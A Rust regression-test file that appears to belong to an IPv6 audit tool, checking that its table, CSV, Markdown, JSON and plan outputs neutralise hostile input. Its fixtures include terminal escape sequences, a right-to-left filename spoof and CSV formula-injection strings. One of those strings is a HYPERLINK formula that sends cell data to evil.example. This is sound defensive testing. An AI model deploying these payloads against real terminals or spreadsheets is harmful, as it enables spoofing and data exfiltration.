//! Regression tests for what a hostile portal, certificate or inventory made
//! the formats write (the issue "Trust under hostile input", items 8 and 17):
//! a certificate CN of `\e[2J\e[H\e]0;PWNED\a` cleared the screen and
//! retitled the terminal through `--format table` and went raw into the
//! table, Markdown and CSV files and the plan; CSV cells starting with `=`,
//! `+`, `-`, `@`, tab or CR were live formulas. Each test asserts what the
//! user sees; JSON keeps the exact string.

use v6audit_model::{Lang, Report, Stage};
use v6audit_rules::Pack;

use super::{
    csv, json, json_held, jsonl_line, junit, markdown, plan, table, write_json_with_results,
};

/// Clears the screen, homes the cursor, retitles the terminal, rings the bell.
const PWNED: &str = "\u{1b}[2J\u{1b}[H\u{1b}]0;PWNED\u{7}";
/// The same, as the formats must show it.
const SHOWN: &str = "\\x1b[2J\\x1b[H\\x1b]0;PWNED\\x07";
/// RIGHT-TO-LEFT OVERRIDE: "gpj.exe" after it reads as "exe.jpg".
const RLO: &str = "\u{202e}";

fn lab_report() -> Report {
    serde_json::from_str(include_str!(
        "../../../agent/tests/fixtures/report-lab.json"
    ))
    .expect("the fixture is a v1 report")
}

/// The lab report with hostile strings where an inventory (name, agency) and
/// the network (a certificate's name in a finding's message) put them.
fn hostile_report() -> Report {
    let mut r = lab_report();
    for res in &mut r.results {
        res.portal.name = Some(format!("Cổng {PWNED}"));
        res.portal.agency = Some(format!("Bộ {RLO}gpj.exe"));
        for f in &mut res.verdict.findings {
            f.message = format!("certificate CN={PWNED} for {RLO}gpj.exe");
            f.remediation = format!("ask {PWNED}");
        }
    }
    r
}

/// What a terminal would obey: ESC, BEL, CR and the other controls but
/// newline and tab, and the bidi overrides. CSV's CRLF ends a record.
fn obeyed(text: &str) -> Option<char> {
    text.replace("\r\n", "\n").chars().find(|&c| {
        (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

#[test]
fn certificate_cn_with_escape_sequences_does_not_reach_the_terminal() {
    let report = hostile_report();
    let pack = Pack::default_pack();
    let steps = v6audit_rules::plan::plan(&report.results, &pack, Lang::En, Stage::DualStack);
    assert!(!steps.items.is_empty());
    let outputs = [
        ("table", table::render(&report, Lang::En, false, None)),
        (
            "table 80",
            table::render(&report, Lang::En, false, Some(80)),
        ),
        ("table vi", table::render(&report, Lang::Vi, false, None)),
        ("markdown", markdown::render(&report, Lang::En)),
        ("csv", csv::render(&report)),
        ("junit", junit::render(&report)),
        ("plan markdown", plan::markdown(&steps, false)),
        ("plan by agency", plan::markdown(&steps, true)),
        ("plan csv", plan::csv(&steps)),
    ];
    for (format, text) in &outputs {
        assert_eq!(obeyed(text), None, "{format}:\n{text}");
        assert!(
            text.contains(SHOWN),
            "{format} does not show the escapes:\n{text}"
        );
    }
    for format in [
        "table",
        "markdown",
        "csv",
        "plan markdown",
        "plan by agency",
    ] {
        let (_, text) = outputs.iter().find(|(f, _)| *f == format).expect("listed");
        assert!(text.contains("<U+202E>gpj.exe"), "{format}:\n{text}");
    }
    // With colour the table writes its own SGR sequences, and only those.
    let colored = table::render(&report, Lang::En, true, Some(80));
    assert!(colored.contains('\u{1b}'), "the table is coloured");
    for sent in ["\u{1b}[2J", "\u{1b}[H", "\u{1b}]", "\u{7}", RLO] {
        assert!(!colored.contains(sent), "{sent:?} reached the terminal");
    }
}

#[test]
fn table_columns_stay_aligned_with_an_escape_in_an_id() {
    // Widths are counted on what is shown, so the stage column stays put.
    let mut report = lab_report();
    report.results[0].portal.id = format!("x{PWNED}");
    let text = table::render(&report, Lang::En, false, None);
    assert_eq!(obeyed(&text), None, "{text}");
    let mut lines = text.lines();
    let header = lines.next().expect("a header");
    // The header is ASCII: its byte offset is its column.
    let stage = header.find("STAGE").expect("a STAGE column");
    for line in lines.take(report.results.len()) {
        let mut at = line.chars().skip(stage - 1);
        assert_eq!(at.next(), Some(' '), "{line}");
        assert!(
            at.next().is_some_and(|c| c.is_ascii_digit()),
            "{line}\n{text}"
        );
    }
}

/// Splits RFC 4180 text into rows of cells, as a spreadsheet reads it.
fn spreadsheet_cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

/// Names and agencies that a spreadsheet would run as formulas.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bộ Công an\")",
    "-1+1",
    "+1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
];

fn formula_report() -> Report {
    let mut r = lab_report();
    for (i, res) in r.results.iter_mut().enumerate() {
        res.portal.name = Some(FORMULAS[i % FORMULAS.len()].to_owned());
        res.portal.agency = Some(FORMULAS[(i + 1) % FORMULAS.len()].to_owned());
    }
    r
}

#[test]
fn csv_cell_starting_with_equals_is_not_a_formula() {
    let report = formula_report();
    let pack = Pack::default_pack();
    let steps = v6audit_rules::plan::plan(&report.results, &pack, Lang::En, Stage::DualStack);
    for (format, text) in [
        ("csv", csv::render(&report)),
        ("plan csv", plan::csv(&steps)),
    ] {
        let rows = spreadsheet_cells(&text);
        assert!(rows.len() > 1, "{format}:\n{text}");
        let width = rows[0].len();
        for row in &rows {
            assert_eq!(row.len(), width, "{format}: a cell was split: {row:?}");
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{format}: {cell:?} would run as a formula"
                );
            }
        }
        // What the spreadsheet shows: the text, marked as text.
        let name = rows[0]
            .iter()
            .position(|h| h == "name")
            .expect("a name column");
        let names: Vec<&str> = rows[1..].iter().map(|r| r[name].as_str()).collect();
        assert!(
            names.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bộ Công an\")"),
            "{format}: {names:?}"
        );
        assert!(
            names.contains(&"'-1+1") && names.contains(&"'@SUM(A1:A9)"),
            "{names:?}"
        );
        assert!(
            names.contains(&"'\t=1+1") && names.contains(&"'\\r=1+1"),
            "{names:?}"
        );
    }
}

#[test]
fn json_keeps_the_exact_string_escaped() {
    let mut report = hostile_report();
    // U+009B is the 8-bit CSI, which serde writes as it is: a terminal
    // showing the JSON obeyed it (and the RLO), as a hostile tester found.
    let c1 = "\u{9b}31mred";
    report.results[0].portal.agency = Some(format!("{c1}{RLO}"));
    let text = json(&report);
    assert_eq!(obeyed(&text), None, "every control character is escaped");
    assert!(!text.contains(RLO) && !text.contains('\u{9b}'), "{text}");
    assert!(
        text.contains("\\u001b[2J") && text.contains("\\u009b31mred\\u202e"),
        "{text}"
    );
    let line = jsonl_line(&report.results[0]);
    assert!(!line.contains(RLO) && !line.contains('\u{9b}'), "{line}");
    // SARIF is JSON too; and a line separator would split a JSON line for
    // some readers.
    let pack = Pack::default_pack();
    let sarif = super::sarif::render(&report, &pack, Lang::En);
    assert_eq!(obeyed(&sarif), None, "{sarif}");
    let mut separated = report.results[0].clone();
    separated.portal.name = Some("a\u{2028}b\u{2029}c".to_owned());
    let one_line = jsonl_line(&separated);
    assert_eq!(one_line.lines().count(), 1);
    assert!(one_line.contains("a\\u2028b\\u2029c"), "{one_line}");
    let back: Report = serde_json::from_str(&text).expect("the report reads back");
    assert_eq!(back.results[0].portal.agency, Some(format!("{c1}{RLO}")));
    let back: Report = serde_json::from_str(&text).expect("the report reads back");
    let name = format!("Cổng {PWNED}");
    assert_eq!(back.results[0].portal.name.as_deref(), Some(name.as_str()));
    assert_eq!(
        back.results[0].verdict.findings[0].message,
        format!("certificate CN={PWNED} for {RLO}gpj.exe")
    );
    let line = jsonl_line(&report.results[0]);
    let one: v6audit_model::PortalResult = serde_json::from_str(&line).expect("a JSON line");
    assert_eq!(one.portal.name.as_deref(), Some(name.as_str()));
}

/// Issue "Speed and scale", goal 1: a one-document run keeps its results as
/// their compact JSON, not as objects; the document written from them is
/// the same text, byte for byte, as the report's own, hostile strings and
/// all.
#[test]
fn a_report_written_from_held_results_is_the_same_document() {
    let written = |head: &Report, held: &[Box<str>]| {
        let mut out = Vec::new();
        write_json_with_results(&mut out, head, held).unwrap();
        String::from_utf8(out).unwrap()
    };
    for report in [lab_report(), hostile_report()] {
        let held: Vec<Box<str>> = report.results.iter().map(json_held).collect();
        let mut head = report.clone();
        head.results.clear();
        assert_eq!(written(&head, &held), json(&report));
        assert_eq!(written(&head, &[]), json(&head));
    }
}
